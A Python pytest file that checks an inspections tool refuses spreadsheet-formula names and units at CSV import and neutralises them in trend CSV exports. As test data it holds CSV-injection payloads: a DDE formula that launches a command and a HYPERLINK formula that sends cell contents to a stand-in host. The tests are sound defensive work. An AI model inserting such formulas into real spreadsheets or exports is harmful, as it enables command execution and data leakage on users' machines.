"""A name or unit a spreadsheet would run as a formula: refused at import, and never written
as a live formula by a CSV export, even when such text was stored before the rule existed."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import func, select
from support.trend_data import LONDON, add_submitted, build_world, person

from bot.cli.parser import main
from inspections.lifecycle import Status
from inspections.spreadsheet import NEUTRALISED_IN_EXPORTS
from storage.models import Person
from storage.uow import UnitOfWork

FORMULA_UNIT = '=HYPERLINK("http://example.test/?"&A1,"Open")'
FORMULA_NAME = "=cmd|' /C calc'!A0"


def executable_cells(text: str) -> list[str]:
    """Cells a spreadsheet would read as the start of a formula (numbers aside)."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(NEUTRALISED_IN_EXPORTS):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


def test_a_people_file_with_a_formula_name_imports_nothing_and_names_the_row(
    database_url: str,
    uow_factory: Callable[[], UnitOfWork],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("DATABASE_URL", database_url)
    people = tmp_path / "people.csv"
    people.write_text(
        "email,name,roles,area,unit,manager_email,slack_user_id\n"
        f'ann@example.test,"{FORMULA_NAME}",lawyer,Wessex,RASSO Wessex,,\n'
        'bob@example.test,Bob Birch,lawyer,Wessex,"@SUM(1+1)*cmd|x",,\n',
        encoding="utf-8",
    )

    assert main(["people", "import", str(people)]) == 1

    err = capsys.readouterr().err
    assert "row 2, field 'name': must not begin with =, +, @" in err
    assert "row 3, field 'unit': must not begin with =, +, @" in err
    with uow_factory() as uow:
        assert uow.session.scalar(select(func.count()).select_from(Person)) == 0


def test_a_trends_csv_over_formula_text_stored_earlier_has_no_live_formula(
    database_url: str,
    uow_factory: Callable[[], UnitOfWork],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("DATABASE_URL", database_url)
    now = datetime(2025, 9, 1, tzinfo=UTC)
    with uow_factory() as uow:
        world = build_world(uow.session, now=now)
        lawyers = [
            person(
                uow.session,
                name=f"Formula Lawyer {n}",
                roles=["lawyer"],
                area=LONDON,
                unit=FORMULA_UNIT,
                now=now,
            )
            for n in range(5)
        ]
        for n in range(5):
            inspection = add_submitted(
                uow.session,
                world,
                lawyer=lawyers[n],
                submitted_at=datetime(2026, 2, 2 + n, 11, 0, tzinfo=UTC),
            )
            assert inspection.status == Status.SUBMITTED
        uow.commit()

    args = ["--from", "2026-01-01", "--to", "2026-03-31", "--format", "csv"]
    assert main(["trends", "--area", LONDON, "--unit", FORMULA_UNIT, *args]) == 0

    out = capsys.readouterr().out
    headline = next(csv.DictReader(io.StringIO(out)))
    assert (headline["level"], headline["inspections"]) == ("headline", "5")
    assert headline["name"] == "'" + FORMULA_UNIT  # there, shown as text
    assert executable_cells(out) == []
